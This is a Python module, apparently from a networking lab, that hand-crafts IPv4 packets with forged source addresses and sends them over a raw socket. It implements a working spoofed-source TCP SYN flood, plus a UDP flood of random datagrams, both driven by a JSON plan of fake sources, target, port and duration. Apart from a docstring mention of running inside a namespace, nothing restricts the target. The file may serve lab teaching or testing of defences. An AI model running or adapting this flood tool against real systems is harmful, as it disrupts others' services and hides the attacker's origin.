"""Packets with forged sources. Run inside a namespace: `python -m lab.forger PLAN`.

PLAN is a JSON file: sources, target, and the packets and seconds to spend on them. Packets are
made by hand and sent over a raw socket: raw(7), RFC 791, RFC 768, RFC 9293.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time
from dataclasses import asdict, dataclass
from ipaddress import IPv4Address
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Sequence

_IP = struct.Struct("!BBHHHBBH4s4s")
_TCP = struct.Struct("!HHIIBBHHH")
_UDP = struct.Struct("!HHHH")
_SYN = 0x02
_MSS = struct.pack("!BBH", 2, 4, 1460)


@dataclass(frozen=True, slots=True)
class FloodPlan:
    """A flood: each source is used for one to three packets."""

    sources: Sequence[str]
    target: str
    port: int
    seconds: float
    seed: int
    udp: bool = False
    """Datagrams of random contents in place of SYNs."""

    def write(self, path: Path) -> Path:
        """Write the plan as JSON and return its path."""
        path.write_text(json.dumps(asdict(self)), encoding="ascii")
        return path


def packets(plan: FloodPlan) -> list[bytes]:
    """Return the flood's packets in the order in which they are sent."""
    rng = random.Random(plan.seed)
    sources = [source for source in plan.sources for _ in range(rng.randint(1, 3))]
    rng.shuffle(sources)
    made = datagram if plan.udp else syn
    return [made(rng, source, plan.target, plan.port) for source in sources]


def syn(rng: random.Random, source: str, target: str, port: int) -> bytes:
    """Return an IPv4 packet that asks for a connection, with right checksums."""
    ends = IPv4Address(source).packed + IPv4Address(target).packed
    sequence, own_port = rng.randrange(2**32), rng.randint(1024, 65535)
    bare = _TCP.pack(own_port, port, sequence, 0, 6 << 4, _SYN, 64240, 0, 0) + _MSS
    pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(bare))
    segment = bare[:16] + struct.pack("!H", checksum(pseudo + bare)) + bare[18:]
    return _packet(rng, ends, socket.IPPROTO_TCP, segment)


def datagram(rng: random.Random, source: str, target: str, port: int) -> bytes:
    """Return an IPv4 packet with a datagram of random contents, without a UDP checksum."""
    ends = IPv4Address(source).packed + IPv4Address(target).packed
    data = rng.randbytes(rng.randint(16, 600))
    head = _UDP.pack(rng.randint(1024, 65535), port, _UDP.size + len(data), 0)
    return _packet(rng, ends, socket.IPPROTO_UDP, head + data)


def _packet(rng: random.Random, ends: bytes, protocol: int, content: bytes) -> bytes:
    length, identity = _IP.size + len(content), rng.randrange(1, 2**16)
    header = _IP.pack(0x45, 0, length, identity, 0, 64, protocol, 0, ends[:4], ends[4:])
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + content


def checksum(data: bytes) -> int:
    """Return the Internet checksum of an even number of bytes (RFC 1071)."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def flood(plan: FloodPlan) -> None:
    """Send the packets, spread evenly over the plan's seconds."""
    queue = packets(plan)
    begin = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number, packet in enumerate(queue):
            due = begin + plan.seconds * number / len(queue)
            time.sleep(max(0.0, due - time.monotonic()))
            raw.sendto(packet, (plan.target, 0))


if __name__ == "__main__":
    flood(FloodPlan(**json.loads(Path(sys.argv[1]).read_text(encoding="ascii"))))
